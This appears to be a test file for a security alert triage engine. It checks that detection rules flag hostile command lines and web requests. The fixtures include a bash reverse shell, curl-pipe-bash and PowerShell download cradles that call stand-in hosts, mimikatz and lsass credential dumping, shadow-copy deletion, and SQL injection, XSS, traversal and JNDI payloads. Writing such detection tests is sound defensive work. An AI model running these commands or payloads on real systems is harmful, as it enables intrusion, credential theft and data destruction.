import type { NormalizedAlert } from '@triage/contracts';
import { describe, expect, it } from 'vitest';
import { alertOf, testConfig, verdictOf, wazuhAlert } from '../fixtures.test-support.ts';

const c = testConfig();
const rules = (alert: NormalizedAlert) => verdictOf(alert, undefined, c);
const ids = (r: ReturnType<typeof rules>) => r.evidence.map((e) => e.id);
const cmd = (command_line: string, name = 'Process creation') =>
  alertOf({ name, format: 'sentinel', severity: 'Medium', process: { name: 'x.exe', command_line } });

describe('command-line evidence', () => {
  it.each([
    ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords"', 'cmd.mimikatz'],
    ['Rubeus.exe kerberoast /outfile:h.txt', 'cmd.kerberos_attack'],
    ['procdump64.exe -accepteula -ma lsass.exe out.dmp', 'cmd.lsass_dump'],
    ['certutil.exe -urlcache -split -f http://evil.test/a.exe a.exe', 'cmd.certutil_download'],
    ['bitsadmin /transfer job /download /priority high http://x.test/p.exe c:\\p.exe', 'cmd.bitsadmin'],
    ['regsvr32 /s /n /u /i:http://x.test/file.sct scrobj.dll', 'cmd.regsvr32_squiblydoo'],
    ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'cmd.rundll32_script'],
    ['mshta http://x.test/payload.hta', 'cmd.mshta_remote'],
    ['wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"', 'cmd.wmic_create'],
    ['vssadmin.exe delete shadows /all /quiet', 'cmd.shadow_delete'],
    ['bcdedit /set {default} recoveryenabled no', 'cmd.bcdedit_recovery'],
    ['psexec.exe \\\\srv01 -s cmd.exe', 'cmd.psexec'],
    ['nltest /domain_trusts /all_trusts', 'cmd.nltest'],
    ['whoami /all', 'cmd.whoami'],
    ['net group "domain admins" /domain', 'cmd.domain_admins'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'cmd.reverse_shell'],
    ['curl -s http://x.test/i.sh | bash', 'cmd.download_exec'],
    [
      'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x.test/a\')"',
      'ps.download_cradle',
    ],
  ])('%s → %s', (line, id) => {
    const r = rules(cmd(line));
    expect(ids(r)).toContain(id);
    expect(r.score).toBeGreaterThan(0);
    expect(r.reasons.join(' ')).toContain('`');
  });

  it('decodes -EncodedCommand (base64 UTF-16LE) and inspects the plain text', () => {
    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')";
    const b64 = Buffer.from(inner, 'utf16le').toString('base64');
    const r = rules(cmd(`powershell.exe -NoP -W Hidden -EncodedCommand ${b64}`));
    expect(ids(r)).toEqual(expect.arrayContaining(['ps.encoded_command', 'ps.download_cradle']));
    expect(r.reasons.join(' ')).toMatch(/decoded/);
    expect(r.classification).toBe('TRUE_POSITIVE');
  });

  it('a shell command from a web directory or by the web server account is a webshell sign', () => {
    const sudo = wazuhAlert({
      rule: {
        level: 3,
        description: 'Successful sudo to ROOT executed.',
        groups: ['syslog', 'sudo'],
        id: '5402',
      },
      data: {
        srcuser: 'bob',
        dstuser: 'root',
        pwd: '/var/www/site/wp-content/uploads/2022/01',
        command: '/bin/cat /etc/shadow',
      },
      full_log:
        'sudo: bob : PWD=/var/www/site/wp-content/uploads/2022/01 ; USER=root ; COMMAND=/bin/cat /etc/shadow',
    });
    const r = rules(sudo);
    expect(ids(r)).toEqual(expect.arrayContaining(['cmd.web_root_shell', 'cmd.shadow_file']));
    expect(r.classification).toBe('TRUE_POSITIVE');
  });
});

describe('web evidence', () => {
  const web = (url: string, ua = 'Mozilla/5.0') =>
    alertOf({ name: 'Web request', src_ip: '45.1.2.3', urls: [url], facts: { user_agent: ua } });
  it.each([
    ["/item.php?id=1' UNION SELECT username,password FROM users--", 'web.sqli'],
    ['/search?q=<script>alert(document.cookie)</script>', 'web.xss'],
    ['/download?file=../../../../etc/passwd', 'web.traversal'],
    ['/api?x=\u0024{jndi:ldap://x.test/a}', 'web.rce'],
    ['/uploads/shell.php?cmd=id', 'web.webshell'],
    ['/%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'web.traversal'],
  ])('%s → %s', (url, id) => {
    expect(ids(rules(web(url)))).toContain(id);
  });

  it.each([
    'sqlmap/1.7#stable (https://sqlmap.org)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'WPScan v3.8.20',
    'Nikto/2.5.0',
    'gobuster/3.6',
    'masscan/1.3',
  ])('scanner user agent %s', (ua) => {
    expect(ids(rules(web('/', ua)))).toContain('web.scanner');
  });

  it('a web-attack signature that matched the server response leans benign', () => {
    const a = alertOf({
      name: 'Possible XSS attack, script tag',
      format: 'suricata',
      src_ip: '192.168.1.10',
      src_port: 80,
      dst_ip: '10.0.0.7',
      dst_port: 51989,
      facts: { signature: 'Possible XSS attack, script tag', category: 'Web Application Attack' },
    });
    const r = rules(a);
    expect(ids(r)).toContain('web.response_side_match');
    expect(r.classification).not.toBe('TRUE_POSITIVE');
  });
});
